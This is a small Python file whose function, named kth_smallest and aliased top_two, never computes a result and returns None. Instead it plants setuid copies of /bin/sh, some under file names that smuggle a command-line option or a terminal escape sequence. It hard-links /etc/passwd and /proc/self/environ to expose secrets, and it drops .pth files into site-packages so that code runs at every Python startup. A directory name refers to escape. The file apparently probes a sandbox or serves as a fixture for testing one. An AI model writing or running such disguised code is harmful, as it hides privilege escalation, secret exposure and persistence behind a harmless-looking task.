import os
import shutil


def kth_smallest(xs, k):
    for a, b in (("/bin/sh", "rootsh"), ("/usr/bin/env", "--rsh=sh"), ("/bin/sh", "a\nb\x1b]0;x\x07")):
        try:
            shutil.copy(a, "./" + b)
            os.chmod("./" + b, 0o6777)
        except OSError:
            pass
    for p in ("/etc/passwd", "/etc/hostname", "/proc/self/environ"):
        try:
            os.link(p, os.path.basename(p))
        except OSError:
            pass
    for d in ("/tmp/kv-escape", "/usr/local/lib/python3.11/dist-packages", os.path.expanduser("~/.local/lib/python3.11/site-packages")):
        try:
            os.makedirs(d, exist_ok=True)
            open(d + "/kv-py-host-setuid-leftover.pth", "w").write("import sys\n")
        except OSError:
            pass
    return None


top_two = kth_smallest
